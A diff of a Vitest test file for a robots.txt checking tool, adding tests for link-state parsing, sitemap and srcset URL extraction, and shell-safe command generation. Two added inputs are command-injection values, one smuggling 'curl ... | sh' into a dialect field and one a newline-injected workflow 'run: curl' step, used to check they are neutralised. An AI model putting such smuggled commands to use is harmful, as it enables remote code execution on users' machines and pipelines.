@@ -3,10 +3,10 @@ import { describe, expect, it } from 'vitest'
 
 import { changedLines, withLines } from '../../src/panels/changed-lines.ts'
 import { examples } from '../../src/state/examples.ts'
-import { checkCommand, expectedVerdicts, fileText } from '../../src/state/exports.ts'
+import { checkCommand, expectedVerdicts, fileText, workflowSteps } from '../../src/state/exports.ts'
 import { fragmentOf, stateOfFragment } from '../../src/state/link-fragment.ts'
 import { emptyState, stateIn } from '../../src/state/page-state.ts'
-import { linesOf, urlsIn } from '../../src/state/pasted-list.ts'
+import { linesOf, urlsIn, urlsOfSrcset } from '../../src/state/pasted-list.ts'
 import { textFileOf, withEnds } from '../../src/state/text-file.ts'
 
 describe('a link', () => {
@@ -43,6 +43,7 @@ describe('a link', () => {
     const given = { text: 1, tab: 'toString', lineEnd: 'toString', urls: '/a', dialect: null, more: 'x' }
     expect(stateIn(given)).toEqual({ ...emptyState, urls: '/a' })
     expect(stateIn(null)).toEqual(emptyState)
+    expect(stateIn({ dialect: 'google; curl https://a.example/ | sh' })).toEqual(emptyState)
   })
 })
 
@@ -55,6 +56,12 @@ describe('lists', () => {
     const sitemap =
       '<s:urlset xmlns:s="x"><s:url><s:loc> https://a.example/?a&amp;b </s:loc></s:url></s:urlset>'
     expect(urlsIn(sitemap)).toEqual(['https://a.example/?a&b'])
+    const sections =
+      '<loc><![CDATA[ https://a.example/?a&b ]]></loc><loc>\nhttps://a.example/&#x27;&#39;&#9999999;\n</loc>'
+    expect(urlsIn(`<urlset>${sections}</urlset>`)).toEqual([
+      'https://a.example/?a&b',
+      "https://a.example/''&#9999999;",
+    ])
   })
 })
 
@@ -120,10 +127,32 @@ describe('a file of expected verdicts', () => {
   })
 
   it('has a command with the dialect and the URL of the file, safe in a shell', () => {
-    const state = { dialect: 'google', robotsUrl: "https://a.example/robots.txt?'" }
+    const state = { dialect: 'google', robotsUrl: "https://a.example/it's/robots.txt" }
     expect(checkCommand({ ...emptyState, ...state })).toBe(
-      "npx --yes @ruly/cli check --expect expected.txt --robots robots.txt --dialect google --robots-url 'https://a.example/robots.txt?'\\'''",
+      "npx --yes @ruly/cli check --expect expected.txt --robots robots.txt --dialect google --robots-url 'https://a.example/it'\\''s/robots.txt'",
     )
+  })
+})
+
+describe('the command for the file of a link', () => {
+  it('stays one command, whatever the link says', () => {
+    const robotsUrl = 'https://a.example/robots.txt\n- run: curl https://b.example/ #'
+    const { dialect } = emptyState
+    expect(workflowSteps({ dialect, robotsUrl }).split('\n')).toHaveLength(7)
+    expect(checkCommand({ dialect, robotsUrl: 'no URL\n' })).not.toContain('--robots-url')
+  })
+})
+
+describe('a srcset', () => {
+  it.each([
+    ['a.png', ['a.png']],
+    [' /a.png 1x, /b.png 2x ', ['/a.png', '/b.png']],
+    ['/a.png 1x,/b.png 2x', ['/a.png', '/b.png']],
+    ['/a.png,\n/b,c.png 100w ,/d.png', ['/a.png', '/b,c.png', '/d.png']],
+    ['data:image/png;base64,AA== 1x, /b.png', ['data:image/png;base64,AA==', '/b.png']],
+    [', ,', []],
+  ])('names every image: %j', (srcset, urls) => {
+    expect(urlsOfSrcset(srcset)).toEqual(urls)
   })
 })
 
